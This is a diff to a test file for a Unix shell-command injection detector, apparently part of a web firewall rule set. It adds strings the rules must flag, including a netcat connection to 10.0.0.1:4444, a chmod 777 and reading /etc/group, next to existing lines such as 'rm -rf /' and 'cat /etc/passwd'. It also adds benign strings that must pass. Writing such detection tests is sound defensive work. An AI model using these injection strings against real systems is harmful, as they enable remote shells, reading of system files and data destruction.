@@ -32,6 +32,9 @@ testRules(unixRuleSet, EVERYWHERE, {
     'x=/???/../usr/bin/id',
     'x=${LD_PRELOAD}',
     'x=;rm -rf /',
+    'x=;chmod 777 x.sh',
+    'x=|nc 10.0.0.1 4444',
+    'x=; head /etc/group',
   ],
   passes: [
     'a=1&id=5&ls=2',
@@ -53,6 +56,7 @@ testRules(unixRuleSet, EVERYWHERE, {
     'curl/8.6.0',
     'Wget/1.21.4 (linux-gnu)',
     'a | b | c',
+    'runtime | node 20 | gzip 1',
     'if (x) { y(); } sleep(5);',
     'tel: +1 555; ping me',
     'SGVsbG8gd29ybGQ=',
@@ -63,5 +67,11 @@ testRules(unixRuleSet, EVERYWHERE, {
 });
 testRules(unixRuleSet, ['UNIXShellCommandsVariables_BODY'], {
   matches: ['{"cmd":"a;\\u0063at \\/etc\\/passwd"}', '{"a":"x\\ncat /etc/passwd"}', 'a=x%0Awhoami%0A'],
-  passes: ['{"text":"one\\ntwo\\nless is more"}', '{"t":"line\\nfind the host\\n"}', 'a=%24PRICE'],
+  passes: [
+    '{"text":"one\\ntwo\\nless is more"}',
+    '{"t":"line\\nfind the host\\n"}',
+    'a=%24PRICE',
+    'x;\n  export * from "y";\n  set -x',
+    'one; which\n/two',
+  ],
 });
